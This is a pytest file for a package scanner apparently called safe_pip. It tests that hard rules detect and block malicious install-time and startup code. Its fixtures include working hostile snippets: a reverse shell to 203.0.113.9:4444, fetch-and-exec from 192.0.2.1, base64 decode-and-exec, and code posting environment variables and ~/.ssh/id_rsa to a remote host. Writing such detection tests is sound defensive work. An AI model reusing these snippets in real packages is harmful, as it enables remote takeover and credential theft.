"""Hard rules: they decide by themselves, and are named wherever a decision is told."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from pathlib import Path
from textwrap import indent

import pytest
from packaging.utils import canonicalize_name

from model.hard_rules import could_show, learnt, shows
from model.tables import read_tables
from model.workspace import TABLES
from safe_pip.archive import DEFAULT_LIMITS
from safe_pip.artifact import Artifact, OriginKind
from safe_pip.cache.encoding import decode_verdict, encode_verdict
from safe_pip.extractors import SCHEMA
from safe_pip.inspection.one_path import inspect
from safe_pip.policy.rules import Policy, without_a_person
from safe_pip.policy.settings import Action, AllowEntry, Threshold, Unattended
from safe_pip.reports.entry import Entry
from safe_pip.reports.json_document import json_document
from safe_pip.reports.record import read_record, record_document
from safe_pip.reports.sarif import sarif_document
from safe_pip.scoring.hard_rules import BLOCKING, TELLING
from safe_pip.scoring.scorer import Scorer
from safe_pip.terminal.plain import plain_lines
from safe_pip.verdict import RuleHit, Verdict
from tests.builders import write_sdist, write_wheel
from tests.policies import DIGESTS, make_decision, make_verdict
from tests.unit.test_reports import SCANNER

HARMLESS = base64.b64encode(b"import os\nos.system('echo look-alike')\n").decode()
DECODES = f"import base64; exec(base64.b64decode('{HARMLESS}'))\n"
FETCHES = "import urllib.request; exec(urllib.request.urlopen('http://192.0.2.1/x').read())\n"
SHELL = "import os, pty, socket\nlink = socket.socket()\nlink.connect(('203.0.113.9', 4444))\nos.dup2(link.fileno(), 0)\npty.spawn('/bin/sh')\n"
SENDS_ENVIRONMENT = (
    "import os, requests\nrequests.post('https://192.0.2.1/', json=dict(os.environ))\n"
)
SENDS_SECRETS = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://192.0.2.1/', data=key)\n"
DECODES_COMMAND = f"import base64, os\nos.system(base64.b64decode('{base64.b64encode(b'echo look-alike').decode()}').decode())\n"
HIDES = "import subprocess\nsubprocess.Popen(['python', '-c', 'pass'], creationflags=0x08000000, start_new_session=True)\n"
REPORTS = "import socket, requests\nrequests.get('http://192.0.2.1/', params={'host': socket.gethostname()})\n"
RUNS_DATA = "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'words.txt')).read())\n"
STARTUP = RuleHit(
    name="startup-decodes",
    says="decodes hidden code and runs it at every interpreter start",
    path="demo.pth",
    line=1,
    is_block=True,
)
TOLD = RuleHit(name=TELLING, says="sends the whole environment away", path="demo.py", line=7)


@pytest.fixture(scope="module")
def scorer() -> Scorer:
    return Scorer.load(schema=SCHEMA)


def judged(folder: Path, files: dict[str, str], scorer: Scorer) -> Verdict:
    path = write_wheel(folder, "demo", files={"demo/__init__.py": "", **files})
    artifact = Artifact(path=path, origin=OriginKind.SCANNED)
    return inspect(artifact, judge=scorer, limits=DEFAULT_LIMITS)


@pytest.mark.parametrize(
    ("files", "rules"),
    [
        ({"demo.pth": DECODES}, {"startup-decodes", TELLING}),
        ({"demo.pth": FETCHES}, {"startup-fetches", TELLING}),
        ({"sitecustomize.py": DECODES}, {"startup-decodes"}),
        ({"demo/__init__.py": DECODES}, set()),
        ({"demo.pth": "import os; os.environ.setdefault('DEMO', '1')\n"}, set()),
        ({"demo/__init__.py": SHELL}, {"remote-shell"}),
        ({"demo/__init__.py": f"def connect():\n{indent(SHELL, '    ')}"}, set()),
        ({"demo/__init__.py": SENDS_ENVIRONMENT}, {"sends-environment"}),
        ({"demo/__init__.py": SENDS_SECRETS}, {"sends-secrets"}),
        ({"demo/__init__.py": RUNS_DATA, "demo/words.txt": FETCHES}, {"data-acts"}),
        ({"demo/__init__.py": RUNS_DATA, "demo/words.txt": "version = '1.0'\n"}, set()),
    ],
)
def test_a_rule_holds_where_its_code_runs(
    tmp_path: Path, scorer: Scorer, files: dict[str, str], rules: set[str]
) -> None:
    verdict = judged(tmp_path, files, scorer)
    assert {hit.name for hit in verdict.rules} == rules
    decision = make_decision(verdict, Policy())
    if rules & {rule.name for rule in BLOCKING}:
        assert decision.action is Action.BLOCK
        assert decision.rule in rules - {TELLING}


@pytest.mark.parametrize(
    ("code", "rules"),
    [
        (FETCHES, {"install-fetches"}),
        (DECODES_COMMAND, {"install-decodes"}),
        # Tools are asked for their version so, and their output is not shown.
        (HIDES, set()),
        (REPORTS, {"install-reports"}),
        ("import subprocess\nsubprocess.check_call(['make'])\n", set()),
        ("import os\nos.environ['CC'] = 'gcc'\n", set()),
    ],
)
def test_a_rule_holds_while_installing(
    tmp_path: Path, scorer: Scorer, code: str, rules: set[str]
) -> None:
    files = {"setup.py": f"from setuptools import setup\n{code}setup(name='demo')\n"}
    path = write_sdist(tmp_path, "demo", files=files)
    artifact = Artifact(path=path, origin=OriginKind.SCANNED)
    verdict = inspect(artifact, judge=scorer, limits=DEFAULT_LIMITS)
    assert {hit.name for hit in verdict.rules} - {TELLING} == rules
    if rules:
        assert make_decision(verdict, Policy()).action is Action.BLOCK
    called = {"demo/more.py": f"def later():\n{indent(code, '    ')}"}
    assert not judged(tmp_path, called, scorer).rules


@pytest.mark.parametrize("score", [0.0, 0.6, 0.99])
def test_a_blocking_rule_blocks_at_any_score(score: float) -> None:
    decision = make_decision(make_verdict(score=score, rules=(STARTUP,)))
    assert (decision.action, decision.rule) == (Action.BLOCK, "startup-decodes")
    assert "demo.pth:1" in decision.reason
    assert "rule startup-decodes" in decision.reason


def test_only_an_entry_with_the_digest_sets_a_blocking_rule_aside() -> None:
    verdict = make_verdict(rules=(STARTUP,))
    for sha256, action in ((None, Action.BLOCK), (DIGESTS[0], Action.ALLOW)):
        entry = AllowEntry(project=canonicalize_name("demo"), sha256=sha256, reason="read")
        assert make_decision(verdict, Policy(allow=frozenset({entry}))).action is action


def test_telling_behaviour_names_the_question_that_its_score_asks() -> None:
    asked = make_decision(make_verdict(score=0.6, rules=(TOLD,)))
    assert (asked.action, asked.rule) == (Action.ASK, TELLING)
    assert make_decision(make_verdict(score=0.4, rules=(TOLD,))).action is Action.ALLOW
    assert make_decision(make_verdict(score=0.95, rules=(TOLD,))).rule == "block-above"
    stricter = Policy(ask_above=Threshold(fixed=0.3))
    assert make_decision(make_verdict(score=0.4, rules=(TOLD,)), stricter).rule == TELLING


def test_telling_behaviour_is_answered_like_a_score_where_nobody_is_asked() -> None:
    policy = Policy(unattended=Unattended.ALLOW_BELOW_BLOCK)
    decision = make_decision(make_verdict(score=0.6, rules=(TOLD,)), policy)
    assert without_a_person(decision, policy).action is Action.ALLOW


def test_a_rule_is_named_in_every_output(tmp_path: Path) -> None:
    decision = make_decision(make_verdict(rules=(STARTUP,)))
    entries = [Entry(path="demo.whl", decision=decision)]
    (entry,) = json.loads(json_document(entries, SCANNER))["decisions"]
    assert entry["rule"] == "startup-decodes"
    assert entry["hard_rules"][0]["path"] == "demo.pth"
    assert '"policy/startup-decodes"' in sarif_document(entries, SCANNER, SCHEMA)
    assert "rule startup-decodes" in "\n".join(plain_lines(decision, says=str))
    record = tmp_path / "record"
    record.write_text(record_document(entries, SCANNER))
    (read,) = read_record(record).decisions
    assert make_decision(read.verdict).rule == "startup-decodes"


def test_a_rule_survives_the_memory_of_verdicts() -> None:
    verdict = make_verdict(rules=(STARTUP, TOLD))
    assert decode_verdict(encode_verdict(verdict)) == replace(verdict, advisories=())


def test_no_benign_row_of_the_tables_shows_a_rule_that_blocks() -> None:
    tables = read_tables(TABLES)
    for rule in BLOCKING:
        assert not (could_show(rule, tables) & tables.is_benign & learnt(tables)).any()
        # No sample runs code from its data; a look-alike does.
        assert shows(rule, tables).any() or rule.in_data
